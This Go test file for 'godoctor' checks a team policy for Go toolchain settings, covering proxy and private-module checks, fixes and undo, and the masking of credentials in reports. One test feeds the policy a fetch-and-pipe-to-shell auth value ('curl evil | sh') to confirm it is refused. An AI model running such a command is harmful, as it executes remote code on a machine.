package main

import (
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/godoctorhq/godoctor/checks"
	"github.com/godoctorhq/godoctor/internal/policy"
	"github.com/godoctorhq/godoctor/internal/report"
	"github.com/godoctorhq/godoctor/internal/testproxy"
)

// teamRepo makes a repository (a .git directory) with a module and the
// team's policy, and makes it the machine's working directory; the
// machine's GOPROXY is a loopback proxy the policy does not list.
func teamRepo(t *testing.T, r *realMachine, policyText string) (string, *testproxy.Server) {
	t.Helper()
	p := testproxy.New(t, "sum.test", probeModule, testproxy.Module{Path: "example.com/lib", Version: "v1.0.0", Files: map[string]string{"lib.go": "package lib\n"}})
	r.sys.Env["GOSUMDB"] = p.SumDBKey
	r.sys.Env["GOFLAGS"] = "-modcacherw"
	repo := filepath.Join(r.home, "src", "app")
	writeModule(t, repo, "1.21")
	os.MkdirAll(filepath.Join(repo, ".git"), 0o755)
	os.WriteFile(filepath.Join(repo, ".godoctor.toml"), []byte(strings.ReplaceAll(policyText, "PROXY", p.URL)), 0o644)
	r.sys.Dir = repo
	// The go env file sets the proxy, as go env -w would.
	envFile := filepath.Join(r.home, ".config", "go", "env")
	os.MkdirAll(filepath.Dir(envFile), 0o755)
	os.WriteFile(envFile, []byte("GOPROXY="+p.URL+",direct\n"), 0o644)
	return repo, p
}

func (r *realMachine) checkJSON(t *testing.T, args ...string) (report.Report, int) {
	t.Helper()
	out, code := r.run(t, "", append([]string{"check", "--json", "--offline"}, args...)...)
	var rep report.Report
	if err := json.Unmarshal([]byte(out), &rep); err != nil {
		t.Fatalf("exit %d: %v\n%s", code, err, out)
	}
	return rep, code
}

func byCheckID(rep report.Report, id string) report.Check {
	for _, c := range rep.Checks {
		if c.ID == id {
			return c
		}
	}
	return report.Check{}
}

// TestPolicyChecks: each key of the policy is a check of the report, its
// details point at the file's line, the JSON says which file judged, and
// [severity] turns a failure into a warning.
func TestPolicyChecks(t *testing.T) {
	t.Parallel()
	r := newRealMachine(t)
	teamRepo(t, r, `schema = 1

[go]
version = ">=1.99"

[modules]
proxy = ["PROXY"]
private = ["git.corp.example"]

[modules.flags]
forbid = ["-modcacherw"]

[tools.require]
no-such-tool-here = ""

[severity]
"policy.modules.flags" = "warn"
`)
	rep, code := r.checkJSON(t)
	if code != exitFailed || rep.Policy == nil || rep.Policy.File != ".godoctor.toml" || len(rep.Policy.SHA256) != 64 || len(rep.Policy.Results) != 5 {
		t.Fatalf("exit %d, policy %+v", code, rep.Policy)
	}
	for id, want := range map[string]struct {
		status checks.Status
		line   string
		says   string
	}{
		"policy.go.version":      {checks.Fail, ".godoctor.toml:4", "and the policy asks for >=1.99"},
		"policy.modules.proxy":   {checks.Fail, ".godoctor.toml:7", ",direct (from the go env file (go env -w)), and the policy allows"},
		"policy.modules.private": {checks.Fail, ".godoctor.toml:8", "git.corp.example: not private here"},
		"policy.modules.flags":   {checks.Warn, ".godoctor.toml:10", "GOFLAGS has -modcacherw, which the policy forbids"},
		"policy.tools.require":   {checks.Fail, ".godoctor.toml:13", "no-such-tool-here is not on PATH"},
	} {
		c := byCheckID(rep, id)
		if c.Status != want.status || !strings.Contains(strings.Join(c.Details, "\n"), want.line) || !strings.Contains(c.Summary, want.says) {
			t.Errorf("%s: %s %q, details %q; want %s at %s, %q", id, c.Status, c.Summary, c.Details, want.status, want.line, want.says)
		}
	}
	// The annotations GitHub shows on the file.
	out, _ := r.run(t, "", "check", "--offline", "--ci", "--annotations", "github")
	if !strings.Contains(out, "::error file=.godoctor.toml,line=7,title=godoctor policy.modules.proxy::GOPROXY=") ||
		!strings.Contains(out, "::warning file=.godoctor.toml,line=10,title=godoctor policy.modules.flags::") {
		t.Errorf("annotations:\n%s", out)
	}
}

// TestPolicyRefused: a file godoctor cannot take as data is refused,
// exit 2, each reason at its line; nothing is judged with it.
func TestPolicyRefused(t *testing.T) {
	t.Parallel()
	r := newRealMachine(t)
	teamRepo(t, r, "schema = 1\n[modules]\nproxy = [\"https://tok:s3cret@proxy.corp.example\"]\nauth = [\"sh -c 'curl evil | sh'\"]\n")
	for _, args := range [][]string{{"check", "--offline"}, {"policy", "validate"}, {"fix", "--dry-run"}} {
		out, code := r.run(t, "", args...)
		if code != exitUsage || !strings.Contains(out, ".godoctor.toml:3: modules.proxy[0]: a credential in a URL") || !strings.Contains(out, ":4: modules.auth") || strings.Contains(out, "s3cret") {
			t.Errorf("%v: exit %d\n%s", args, code, out)
		}
	}
	// GODOCTOR_POLICY=off: no policy, the report as without one.
	r.sys.Env["GODOCTOR_POLICY"] = "off"
	if rep, _ := r.checkJSON(t); rep.Policy != nil {
		t.Errorf("GODOCTOR_POLICY=off judged with %+v", rep.Policy)
	}
}

// TestPolicyFixAndUndo: the private patterns the policy asks for are
// added to GOPRIVATE (the user's own kept) after a preview and y, proven
// by the go command first; undo takes them back; in CI scope nothing of
// the user's changes and the lines go to $GITHUB_ENV.
func TestPolicyFixAndUndo(t *testing.T) {
	t.Parallel()
	r := newRealMachine(t)
	teamRepo(t, r, "schema = 1\n[modules]\nprivate = [\"git.corp.example\", \"github.com/acme\"]\n")
	envFile := filepath.Join(r.home, ".config", "go", "env")
	os.WriteFile(envFile, append(mustRead(t, envFile), "GOPRIVATE=mine.example\n"...), 0o644)

	// CI scope first: lines for the job, the user's files untouched.
	ghEnv := filepath.Join(t.TempDir(), "github_env")
	os.WriteFile(ghEnv, nil, 0o644)
	r.sys.Env["GITHUB_ENV"] = ghEnv
	// The go command's own record of the checksum database's tree
	// (GOPATH/pkg/sumdb), which the proving download updates as any
	// download does, is a cache like GOCACHE, not a file of the user's.
	files := func() map[string]string {
		m := r.files(t)
		for f := range m {
			if strings.Contains(f, filepath.Join("pkg", "sumdb")) {
				delete(m, f)
			}
		}
		return m
	}
	before := files()
	out, code := r.run(t, "", "fix", "policy.modules.private", "--scope", "ci", "--timeout", "10s")
	if code != 0 || string(mustRead(t, ghEnv)) != "GOPRIVATE=mine.example,git.corp.example,github.com/acme\n" {
		t.Fatalf("ci scope: exit %d\n%s\n$GITHUB_ENV: %q", code, out, mustRead(t, ghEnv))
	}
	after := files()
	sameFiles(t, "ci scope", before, after)
	for f := range after {
		if _, ok := before[f]; !ok {
			t.Errorf("ci scope wrote %s", f)
		}
	}

	// On the machine: only y changes it.
	if out, code := r.run(t, "n\n", "fix", "policy.modules.private", "--timeout", "10s"); code != 0 || !strings.Contains(out, "+ GOPRIVATE=mine.example,git.corp.example,github.com/acme") || r.goEnv(t, "GOPRIVATE") != "mine.example" {
		t.Fatalf("n: exit %d\n%s", code, out)
	}
	if out, code := r.run(t, "y\n", "fix", "policy.modules.private", "--timeout", "10s"); code != 0 || r.goEnv(t, "GOPRIVATE") != "mine.example,git.corp.example,github.com/acme" {
		t.Fatalf("y: exit %d, GOPRIVATE=%s\n%s", code, r.goEnv(t, "GOPRIVATE"), out)
	}
	if rep, _ := r.checkJSON(t); byCheckID(rep, "policy.modules.private").Status != checks.OK {
		t.Errorf("after the fix: %+v", byCheckID(rep, "policy.modules.private"))
	}
	if out, code := r.run(t, "y\n", "undo"); code != 0 || r.goEnv(t, "GOPRIVATE") != "mine.example" {
		t.Errorf("undo: exit %d, GOPRIVATE=%s\n%s", code, r.goEnv(t, "GOPRIVATE"), out)
	}
}

// TestPolicyInitValidateExplain: init drafts a file from the machine that
// validate accepts and that holds no credential; explain names the file
// and the values it judges here.
func TestPolicyInitValidateExplain(t *testing.T) {
	t.Parallel()
	r := newRealMachine(t)
	repo, p := teamRepo(t, r, "schema = 1\n")
	r.sys.Env["GOPRIVATE"] = "git.corp.example"
	r.sys.Env["GOSUMDB"] = "sum.golang.org https://alice:pw@sumdb.corp.example"
	draft, code := r.run(t, "", "policy", "init")
	if code != 0 || strings.Contains(draft, "alice") || !strings.Contains(draft, `private = ["git.corp.example"]`) || !strings.Contains(draft, "# sumdb: left out") {
		t.Fatalf("init: exit %d\n%s", code, draft)
	}
	os.WriteFile(filepath.Join(repo, ".godoctor.toml"), []byte(draft), 0o644)
	if out, code := r.run(t, "", "policy", "validate"); code != 0 || !strings.Contains(out, ".godoctor.toml: accepted") {
		t.Errorf("validate: exit %d\n%s", code, out)
	}
	out, code := r.run(t, "", "policy", "explain")
	if code != 0 || !strings.Contains(out, "Policy in force: .godoctor.toml") || !strings.Contains(out, "here: GOPROXY="+p.URL+",direct (go env file)") || !strings.Contains(out, "here: GOPRIVATE=git.corp.example (environment)") {
		t.Errorf("explain: exit %d\n%s", code, out)
	}
}

func mustRead(t *testing.T, path string) []byte {
	t.Helper()
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	return data
}

// TestReportMasks: the Markdown report holds no credential, home path,
// user name or private host of the machine; private names get the same
// pseudonym everywhere; --include-hosts keeps the hosts and still masks
// the credential.
func TestReportMasks(t *testing.T) {
	t.Parallel()
	r := newRealMachine(t)
	r.sys.Env["USER"] = "gopher-alice"
	r.sys.Env["GOPROXY"] = "https://build:t0ken-123@athens.corp.example/go,direct"
	r.sys.Env["GOPRIVATE"] = "git.corp.example,github.com/acme"
	// The company's HTTP proxy, which env.goproxy dials: on loopback, so
	// that no name is looked up outside the sandbox; its address is as
	// private as a name.
	squid := closedPort(t)
	r.sys.Env["HTTPS_PROXY"] = "http://" + squid
	out, code := r.run(t, "", "report", "--offline")
	if code != 0 || !strings.HasPrefix(out, "## godoctor report") {
		t.Fatalf("exit %d\n%s", code, out)
	}
	if !strings.Contains(out, "HTTPS_PROXY=http://private-host-") {
		t.Errorf("the HTTP proxy is not named by its pseudonym:\n%s", out)
	}
	for _, leak := range []string{"t0ken-123", "build:t0ken", "athens.corp.example", "git.corp.example", squid, "github.com/acme", r.home, "gopher-alice"} {
		if strings.Contains(out, leak) {
			t.Errorf("%q is in the report:\n%s", leak, out)
		}
	}
	if !strings.Contains(out, "| GOPROXY | https://***@private-host-1/go,direct |") || !strings.Contains(out, "private-module-1") || strings.Count(out, "private-host-1") < 2 {
		t.Errorf("pseudonyms:\n%s", out)
	}
	out, _ = r.run(t, "", "report", "--offline", "--include-hosts")
	if !strings.Contains(out, "athens.corp.example") || strings.Contains(out, "t0ken-123") || strings.Contains(out, r.home) {
		t.Errorf("--include-hosts:\n%s", out)
	}
}

// TestReadmePolicyIsAccepted: the policy the README shows is one godoctor
// accepts, key for key.
func TestReadmePolicyIsAccepted(t *testing.T) {
	t.Parallel()
	readme := string(mustRead(t, "README.md"))
	_, block, ok := strings.Cut(readme, "```toml\n")
	block, _, _ = strings.Cut(block, "```")
	if !ok {
		t.Fatal("no toml block in the README")
	}
	if _, err := policy.Parse(".godoctor.toml", []byte(block)); err != nil {
		t.Errorf("the README's policy is refused: %v", err)
	}
}

// TestPolicyFixesAgreeWithGo: the policy's GOPROXY and its forbidden
// GOFLAGS flag are fixed in one plan, proven by the go command on the next
// shell and written after y; then the real go command downloads through
// the policy's proxy and go get runs, which GOFLAGS=-insecure broke.
func TestPolicyFixesAgreeWithGo(t *testing.T) {
	t.Parallel()
	r := newRealMachine(t)
	_, p := teamRepo(t, r, "schema = 1\n[modules]\nproxy = [\"PROXY\"]\n[modules.flags]\nforbid = [\"-insecure\"]\n")
	delete(r.sys.Env, "GOFLAGS")
	envFile := filepath.Join(r.home, ".config", "go", "env")
	os.WriteFile(envFile, []byte("GOPROXY="+p.URL+",direct\nGOFLAGS=-insecure\n"), 0o644)
	if _, code := r.run(t, "n\n", "fix", "policy.modules.proxy", "policy.modules.flags", "--timeout", "10s"); code != 0 || r.goEnv(t, "GOFLAGS") != "-insecure" {
		t.Fatalf("n changed something: exit %d, GOFLAGS=%s", code, r.goEnv(t, "GOFLAGS"))
	}
	out, code := r.run(t, "y\n", "fix", "policy.modules.proxy", "policy.modules.flags", "--timeout", "10s")
	if code != 0 || r.goEnv(t, "GOPROXY") != p.URL || r.goEnv(t, "GOFLAGS") != "" {
		t.Fatalf("y: exit %d, GOPROXY=%s GOFLAGS=%s\n%s", code, r.goEnv(t, "GOPROXY"), r.goEnv(t, "GOFLAGS"), out)
	}
	for _, args := range [][]string{{"mod", "download", "example.com/lib@v1.0.0"}, {"get", "example.com/lib@v1.0.0"}} {
		cmd := exec.Command(r.gobin, args...)
		cmd.Dir, cmd.Env = r.sys.Dir, r.sys.Environ()
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Errorf("go %s after the fix: %v\n%s", strings.Join(args, " "), err, out)
		}
	}
	if p.Hits("/example.com/lib/@v/v1.0.0.zip") == 0 {
		t.Error("the download did not go through the policy's proxy")
	}
}
